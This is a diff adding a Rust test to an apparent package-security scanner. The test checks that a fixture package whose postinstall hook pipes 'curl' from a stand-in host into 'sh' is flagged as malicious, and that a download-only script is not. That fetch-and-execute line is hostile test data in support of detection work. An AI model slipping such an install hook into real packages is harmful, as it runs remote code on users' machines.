@@ -885,3 +885,51 @@ fn a_package_that_runs_what_its_controller_sends_is_caught_running_the_probe() {
         "the silent client was not probed: {connections:#?}"
     );
 }
+
+#[test]
+fn a_script_downloaded_and_run_at_install_is_caught_running_the_probe() {
+    if !sandbox_tests_enabled("a_script_downloaded_and_run_at_install_is_caught_running_the_probe")
+    {
+        return;
+    }
+    let registry = TestRegistry::start();
+    registry.publish(
+        PackageBuilder::new("setup-helper", "1.0.0")
+            .script("postinstall", "curl -s http://stage.example/setup.sh | sh")
+            .file("index.js", "module.exports = 1;\n")
+            .build(),
+    );
+    registry.publish(
+        PackageBuilder::new("fetch-only", "1.0.0")
+            .script(
+                "postinstall",
+                "curl -s -o notes.sh http://docs.example/notes.sh || true",
+            )
+            .file("index.js", "module.exports = 1;\n")
+            .build(),
+    );
+    let scan = |spec: &str| {
+        let home = TempHome::new();
+        let (code, report, stderr) = scan_json(dsca(&home).args([
+            "scan",
+            "--dynamic",
+            "--format",
+            "json",
+            "--registry",
+            registry.url(),
+            spec,
+        ]));
+        assert_eq!(code, 0, "{spec}: {stderr}");
+        report
+    };
+    let report = scan("setup-helper@1.0.0");
+    let rules = rule_ids(&report);
+    assert!(rules.iter().any(|r| r == "DSCA1012"), "{rules:?}");
+    assert_eq!(report["verdict"]["level"], "malicious");
+    // Downloading the script without running it proves nothing.
+    let fetched = scan("fetch-only@1.0.0");
+    assert!(
+        !rule_ids(&fetched).iter().any(|r| r == "DSCA1012"),
+        "{fetched:#}"
+    );
+}
